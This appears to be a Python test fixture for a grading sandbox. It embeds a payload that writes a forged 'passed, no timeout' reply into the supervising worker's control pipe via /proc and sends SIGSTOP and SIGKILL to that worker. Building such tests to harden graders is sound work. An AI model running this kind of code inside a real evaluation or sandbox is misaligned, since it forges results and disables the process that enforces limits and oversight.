"""Attack the worker that supervises the part: write forged replies into its control
pipe through /proc/<pid>/fd, and signal it (stop, kill) so it cannot enforce limits."""

BASE = "assignment"
PARTS = ("architecture", "concepts")
TARGET = "concepts.py"
ZERO = ("6.",)
CODE = r'''
import json as _json, os as _os, signal as _signal
_fake = (_json.dumps({"part": "concepts", "exit_code": 0, "signal": None, "timed_out": False,
                      "output": "__MARKER__ FORGED REPLY", "ready": True}) + "\n").encode()
_worker = _os.getppid()
_tried = {}
for _fd in range(64):
    try:
        _handle = _os.open(f"/proc/{_worker}/fd/{_fd}", _os.O_WRONLY | _os.O_NONBLOCK)
        _os.write(_handle, _fake)
        _os.close(_handle)
        _tried[_fd] = "written"
    except OSError as _error:
        _tried[_fd] = type(_error).__name__
for _sig in (_signal.SIGSTOP, _signal.SIGKILL):
    try:
        _os.kill(_worker, _sig)
        _tried[str(_sig)] = "sent"
    except OSError as _error:
        _tried[str(_sig)] = type(_error).__name__
print("__MARKER__ control:", _tried)
'''
